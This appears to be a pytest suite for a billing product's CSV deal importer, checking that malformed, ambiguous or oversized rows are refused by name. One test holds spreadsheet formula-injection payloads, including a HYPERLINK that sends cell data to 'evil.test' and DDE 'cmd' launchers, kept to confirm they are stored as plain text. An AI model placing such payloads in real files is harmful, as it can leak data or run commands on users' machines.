"""The corpus' files of deals, s-csv_deals-001 to 040."""

from __future__ import annotations

import resource
import time
from decimal import Decimal

import pytest

from counterfoil.billing import services as billing
from counterfoil.connectors.embedded import EmbeddedAccounting, EmbeddedCrm
from counterfoil.crm.domain import Stage
from counterfoil.flows.close_deals import close_deals
from counterfoil.kernel.errors import Refused
from counterfoil.revenue.models import Schedule
from counterfoil.standards import selectors as standards
from tests.badinput.crm_world import (
    COLUMNS,
    FAMILIES,
    World,
    assert_is_said,
    case,
    families_by_row,
    fields_of,
    rows_of_everything,
    the_world,
)
from tests.builders import NOW, TESTER

pytestmark = pytest.mark.database

ROW = "{id},{name},ACC-1,12000.00,EUR,Closed Won,2026-10-15,SUB-ENT-Y,1,5,NET30,recurring,rep1@example.test,PO-77\n"


@pytest.fixture
def world() -> World:
    return the_world()


def feed_twice(world: World, name: str) -> tuple[set[str], dict[int, set[str]]]:
    """Feed a case in twice; return the deals stored and the error families by row. The second time changes nothing."""
    first = world.feeds("deals", case(f"csv_deals/{name}"), name)
    before = rows_of_everything()
    again = world.feeds("deals", case(f"csv_deals/{name}"), name)
    after = rows_of_everything()
    if not again.rejected:
        assert after == before
    assert after | {"audit_event": 0} == before | {"audit_event": 0}
    assert (again.accepted, again.unchanged) == (0, first.accepted + first.unchanged)
    assert families_by_row(again) == families_by_row(first)
    assert first.read == first.accepted + first.unchanged + first.rejected
    return set(world.deals()), families_by_row(first)


@pytest.mark.parametrize(
    ("name", "stored", "refused"),
    [
        ("utf8_bom.csv", {"D-1"}, {}),
        ("quoted_newline.csv", {"D-1"}, {}),
        ("ragged_rows.csv", {"D-1"}, {3: "MALFORMED", 4: "MALFORMED"}),
        ("semicolon_delimiter.csv", {"D-97"}, {}),
        ("header_only.csv", set(), {}),
        ("formula_injection.csv", {"D-1", "D-2", "D-3", "D-4"}, {}),
        ("amount_exponent.csv", {"D-2"}, {2: "BAD_NUMBER"}),
        ("amount_nan.csv", {"D-2"}, {2: "BAD_NUMBER"}),
        ("amount_infinity.csv", {"D-2"}, {2: "BAD_NUMBER"}),
        ("amount_hex.csv", {"D-2"}, {2: "BAD_NUMBER"}),
        ("amount_thirty_digits.csv", {"D-2"}, {2: "RANGE"}),
        ("amount_currency_sign.csv", {"D-2"}, {2: "AMBIGUOUS_NUMBER"}),
        ("amount_thousands_de.csv", {"D-2"}, {2: "AMBIGUOUS_NUMBER"}),
        ("amount_negative_won.csv", {"D-2"}, {2: "RANGE"}),
        ("amount_underscore.csv", {"D-111"}, {2: "BAD_NUMBER"}),
        ("amount_fullwidth_digits.csv", {"D-111"}, {2: "BAD_NUMBER"}),
        ("amount_apostrophe_ch.csv", {"D-111"}, {2: "AMBIGUOUS_NUMBER"}),
        ("amount_negative_zero.csv", set(), {2: "RANGE"}),
        ("amount_3_decimals_eur.csv", set(), {2: "SCALE"}),
        ("amount_kwd_3dec_ok.csv", {"D-113"}, {}),
        ("currency_unknown.csv", set(), {2: "BAD_CURRENCY", 3: "BAD_CURRENCY", 4: "BAD_CURRENCY"}),
        ("date_ambiguous.csv", {"D-2"}, {2: "AMBIGUOUS_DATE"}),
        ("date_invalid.csv", set(), {2: "BAD_DATE", 3: "BAD_DATE", 4: "BAD_DATE"}),
        ("unknown_product.csv", {"D-2"}, {2: "UNKNOWN_PRODUCT", 4: "MISSING_FIELD"}),
        ("missing_required_closed_won.csv", set(), {2: "MISSING_FIELD"}),
        ("whitespace_only_required.csv", set(), {2: "MISSING_FIELD"}),
        ("dup_external_id_same.csv", {"D-1"}, {}),
        ("dup_external_id_conflict.csv", set(), {2: "DUPLICATE_ID", 3: "DUPLICATE_ID"}),
        ("stage_unknown.csv", set(), {2: "UNKNOWN_ENUM", 3: "UNKNOWN_ENUM"}),
    ],
)
def test_rows_are_refused_by_name_and_the_others_stored(
    world: World, name: str, stored: set[str], refused: dict[int, str]
) -> None:
    assert feed_twice(world, name) == (stored, {row: {family} for row, family in refused.items()})


@pytest.mark.parametrize(
    ("name", "family", "facts"),
    [
        ("mixed_utf8_latin1.csv", "ENCODING", {"row": 3}),
        ("nul_byte.csv", "MALFORMED", {"reason": "nul"}),
        ("duplicate_header.csv", "SCHEMA", {"column": "amount"}),
        ("empty_file.csv", "MALFORMED", {"reason": "empty"}),
        ("gzip_disguised.csv", "UNSUPPORTED_TYPE", {"type": "gzip"}),
    ],
)
def test_a_file_is_refused_as_a_whole(world: World, name: str, family: str, facts: dict[str, object]) -> None:
    refused = world.is_refused("deals", case(f"csv_deals/{name}"))
    assert FAMILIES[refused.code] == family
    assert {key: refused.facts.get(key) for key in facts} == facts
    assert_is_said(refused.code, refused.facts)


def test_an_encoding_that_lies_is_named_by_its_byte(world: World) -> None:
    data = case("csv_deals/mixed_utf8_latin1.csv")
    refused = world.is_refused("deals", data)
    offset = refused.facts["offset"]
    assert isinstance(offset, int)
    assert data[offset] == 0xE9


def test_ten_thousand_columns_are_too_many(world: World) -> None:
    extra = "".join(f",x{number}" for number in range(9_986))
    data = f"{COLUMNS}{extra}\n{ROW.format(id='D-1', name='Acme').rstrip()}{',' * 9_986}\n".encode()
    began, memory = time.perf_counter(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    refused = world.is_refused("deals", data)
    assert (refused.code, refused.facts["limit"], refused.facts["found"]) == ("limit", 512, 10_000)
    assert time.perf_counter() - began < 2
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 200 << 10


def test_a_quote_that_never_closes_is_named_and_nothing_is_stored(world: World) -> None:
    rows = ROW.format(id="D-1", name='"Acme never closed') + "".join(
        ROW.format(id=f"D-{number}", name="Acme renewal") for number in range(2, 400)
    )
    refused = world.is_refused("deals", f"{COLUMNS}\n{rows}".encode())
    assert (refused.code, refused.facts["line"]) == ("malformed", 2)


def test_a_value_that_fills_the_file_is_refused_with_its_limit(world: World) -> None:
    rows = ROW.format(id="D-1", name="A" * 200_000) + ROW.format(id="D-2", name="Acme renewal")
    result = world.feeds("deals", f"{COLUMNS}\n{rows}".encode())
    assert [(error.row, error.field, error.code, error.facts["limit"]) for error in result.errors] == [
        (2, "name", "too_long", 255)
    ]
    assert "A" * 100 not in str(result.errors)
    assert set(world.deals()) == {"D-2"}


def test_the_byte_order_mark_is_no_part_of_the_first_column(world: World) -> None:
    world.feeds("deals", case("csv_deals/utf8_bom.csv"))
    said = world.deals()["D-1"].said
    assert (said.amount_minor, said.currency) == (1_200_000, "EUR")


def test_a_line_break_inside_quotes_belongs_to_the_name(world: World) -> None:
    world.feeds("deals", case("csv_deals/quoted_newline.csv"))
    assert world.deals()["D-1"].said.name == 'Acme\nHolding, "Süd"'


def test_a_file_without_rows_is_taken_with_a_warning(world: World) -> None:
    before = rows_of_everything()
    result = world.feeds("deals", case("csv_deals/header_only.csv"))
    assert (result.read, result.batch, result.warnings) == (0, None, ("no_rows",))
    assert rows_of_everything() == before


def test_a_formula_is_stored_as_the_text_it_is(world: World) -> None:
    world.feeds("deals", case("csv_deals/formula_injection.csv"))
    names = {id_: facts.said.name for id_, facts in world.deals().items()}
    assert names == {
        "D-1": '=HYPERLINK("http://evil.test/?x="&A1,"ok")',
        "D-2": "@SUM(1+1)*cmd|' /C calc'!A0",
        "D-3": "+49 30 1234",
        "D-4": "-2+3+cmd|' /C calc'!A0",
    }


def test_a_currency_with_three_decimals_keeps_them(world: World) -> None:
    world.feeds("deals", case("csv_deals/amount_kwd_3dec_ok.csv"))
    said = world.deals()["D-113"].said
    assert (said.amount_minor, said.currency) == (1_200_505, "KWD")


def test_a_product_code_is_normalised_and_never_guessed(world: World) -> None:
    result = world.feeds("deals", case("csv_deals/unknown_product.csv"))
    (unknown, missing) = result.errors
    assert (unknown.row, unknown.field, unknown.facts["did_you_mean"]) == (2, "product_code", "SUB-ENT-Y")
    assert (missing.row, missing.field, missing.code) == (4, "product_code", "missing_field")
    assert world.deals()["D-2"].said.lines[0].product_text == "sub-ent-y"


def test_every_missing_field_is_named_with_why_finance_needs_it(world: World) -> None:
    result = world.feeds("deals", case("csv_deals/missing_required_closed_won.csv"))
    assert fields_of(result) == ["payment_terms", "billing_type"]
    assert all(error.facts["why"] for error in result.errors)


def test_blanks_and_no_break_spaces_are_missing(world: World) -> None:
    result = world.feeds("deals", case("csv_deals/whitespace_only_required.csv"))
    assert fields_of(result) == ["payment_terms", "billing_type"]


def test_a_row_that_repeats_another_is_no_second_deal(world: World) -> None:
    result = world.feeds("deals", case("csv_deals/dup_external_id_same.csv"))
    assert (result.accepted, result.unchanged, result.rejected) == (1, 1, 0)


def test_rows_that_contradict_each_other_are_both_reported(world: World) -> None:
    result = world.feeds("deals", case("csv_deals/dup_external_id_conflict.csv"))
    assert [(error.row, error.field, error.facts["rows"]) for error in result.errors] == [
        (2, "external_id", [2, 3]),
        (3, "external_id", [2, 3]),
    ]


def test_what_is_stored_is_won_and_passes_the_standards(world: World) -> None:
    world.feeds("deals", case("csv_deals/utf8_bom.csv"))
    (facts,) = world.deals().values()
    assert facts.said.stage == Stage.WON
    assert facts.customer_id is not None


def test_a_dry_run_says_the_same_and_writes_nothing(world: World) -> None:
    before = rows_of_everything()
    for name in ("unknown_product.csv", "ragged_rows.csv", "dup_external_id_conflict.csv"):
        tried = world.feeds("deals", case(f"csv_deals/{name}"), dry_run=True)
        assert rows_of_everything() == before
        assert tried.batch is None
        assert tried.is_dry_run
    with pytest.raises(Refused):
        world.feeds("deals", case("csv_deals/nul_byte.csv"), dry_run=True)
    assert rows_of_everything() == before


def closed(world: World) -> dict[str, set[str]]:
    """Close what was fed in; return the codes that hold each deal, none for one that was invoiced."""
    billing.open_tax_rates(books_id=world.books.id, country="DE", actor=TESTER, at=NOW)
    close_deals(
        books_id=world.books.id,
        source=EmbeddedCrm(),
        sink=EmbeddedAccounting(),
        time_zone="Europe/Berlin",
        actor=TESTER,
    )
    names = {facts.opportunity_id: reference for reference, facts in world.deals().items()}
    found: dict[str, set[str]] = {reference: set() for reference in names.values()}
    for held in standards.held_deals(books_id=world.books.id):
        found[names[held.opportunity_id]] = {finding.code for finding in held.findings}
    return found


def test_the_product_decides_and_a_word_that_contradicts_it_is_held(world: World) -> None:
    """s-csv_deals-035: D-1 is sold once whatever its words say; D-2 is sold by time and says one_time."""
    assert feed_twice(world, "keyword_trap_recurring.csv") == ({"D-1", "D-2"}, {})
    assert closed(world) == {"D-1": set(), "D-2": {"billing_against_product"}}
    assert Schedule.objects.filter(recognition="over_time").count() == 0


def test_a_discount_that_is_likely_a_slip_is_held_and_not_guessed(world: World) -> None:
    """s-csv_deals-036: 150 and -5 are refused; 0.05 is 0.05 %, and a person looks at it."""
    assert feed_twice(world, "discount_over_100.csv") == ({"D-3"}, {2: {"RANGE"}, 3: {"RANGE"}})
    assert closed(world) == {"D-3": {"discount_slipped"}}
    assert world.deals()["D-3"].said.lines[0].discount_percent == Decimal("0.05")


def test_a_longer_term_than_agreed_is_held_and_an_unknown_one_refused(world: World) -> None:
    """s-csv_deals-037: Net 90 where Net 30 was agreed waits; a term that nobody knows has no default."""
    stored, refused = feed_twice(world, "terms_unknown.csv")
    assert (stored, refused) == ({"D-1"}, {3: {"UNKNOWN_ENUM"}, 4: {"UNKNOWN_ENUM"}})
    assert closed(world) == {"D-1": {"term_longer_than_agreed"}}
    assert rows_of_everything()["billing_invoice"] == 0
